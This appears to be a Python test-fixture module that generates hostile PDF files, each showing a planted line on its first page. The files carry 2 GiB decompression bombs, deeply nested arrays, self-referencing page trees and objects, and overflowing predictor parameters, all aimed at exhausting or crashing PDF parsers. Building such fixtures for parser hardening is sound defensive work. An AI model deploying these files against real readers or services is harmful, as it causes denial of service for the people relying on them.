"""PDF files that mean harm: each shows the planted line on its first page."""

import zlib

from bomb import GB, MB, zlib_stream


class Pdf:
    def __init__(self, version=b"%PDF-1.7\n"):
        self.bytes, self.at = bytearray(version), {}

    def put(self, number, body):
        self.at[number] = len(self.bytes)
        self.bytes += b"%d 0 obj\n" % number + body + b"\nendobj\n"

    def stream(self, number, data, entries=b""):
        self.put(number, b"<< /Length %d %s >>\nstream\n" % (len(data), entries) + data + b"\nendstream")

    def end(self, root=1):
        start, last = len(self.bytes), max(self.at)
        self.bytes += b"xref\n0 %d\n0000000000 65535 f \n" % (last + 1)
        for number in range(1, last + 1):
            at = self.at.get(number)
            self.bytes += b"%010d 00000 n \n" % at if at else b"0000000000 00000 f \n"
        self.bytes += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (last + 1, root, start)
        return bytes(self.bytes)


def shown(text):
    return b"BT /F1 12 Tf 72 700 Td (" + text.encode() + b") Tj ET\n"


def begun(plant, kids, n_pages):
    """A document whose first page, object 3, shows the planted line."""
    pdf = Pdf()
    pdf.put(1, b"<< /Type /Catalog /Pages 2 0 R >>")
    pdf.put(2, b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n_pages))
    pdf.put(3, b"<< /Type /Page /Parent 2 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>")
    pdf.stream(4, shown(plant))
    pdf.put(5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    return pdf


def page(pdf, number, contents, resources=b"<< /Font << /F1 5 0 R >> >>"):
    pdf.put(number, b"<< /Type /Page /Parent 2 0 R /Contents %s /Resources %s >>" % (contents, resources))


def flate(plant, pages=1, filters=b"/FlateDecode", double=False):
    """Pages that share one stream of 2 GiB."""
    kids = b"3 0 R " + b" ".join(b"%d 0 R" % (10 + n) for n in range(pages))
    pdf = begun(plant, kids, pages + 1)
    data = zlib_stream(b"", b"0 0 m 9 9 l S\n", 2 * GB)
    if double:
        data = zlib.compress(data, 9)
    pdf.stream(6, data, b"/Filter " + filters)
    for n in range(pages):
        page(pdf, 10 + n, b"6 0 R")
    return pdf.end()


def arrays(plant):
    pdf = begun(plant, b"3 0 R 6 0 R", 2)
    page(pdf, 6, b"7 0 R")
    pdf.put(7, b"[" * 10_000 + b"]" * 10_000)
    pdf.stream(8, b"[" * 100_000 + b" TJ")
    return pdf.end()


def loops(plant):
    """A page tree that leads back to itself, a form inside itself, objects that refer to one another."""
    pdf = begun(plant, b"3 0 R 2 0 R 6 0 R 6 0 R", 4)
    pdf.put(6, b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 6 0 R 7 0 R] /Count 3 >>")
    page(pdf, 7, b"8 0 R", b"<< /XObject << /X 9 0 R >> >>")
    pdf.stream(8, b"/X Do /X Do")
    form = b"/Type /XObject /Subtype /Form /Resources << /XObject << /X 9 0 R >> >>"
    pdf.stream(9, b"/X Do /X Do /X Do", form)
    pdf.put(10, b"11 0 R")
    pdf.put(11, b"10 0 R")
    pdf.put(12, b"<< /Length 12 0 R >>\nstream\nx\nendstream")
    return pdf.end()


def predictors(plant):
    pdf = begun(plant, b"3 0 R " + b" ".join(b"%d 0 R" % (20 + n) for n in range(4)), 5)
    data = zlib_stream(b"", b"\2" + bytes(7), 16 * MB)
    for n, columns in enumerate([1, 2_147_483_647, 4_294_967_296, 0]):
        parms = b"/Filter /FlateDecode /DecodeParms << /Predictor 15 /Columns %d /Colors 32 /BitsPerComponent 16 >>"
        pdf.stream(10 + n, data, parms % columns)
        page(pdf, 20 + n, b"%d 0 R" % (10 + n))
    return pdf.end()
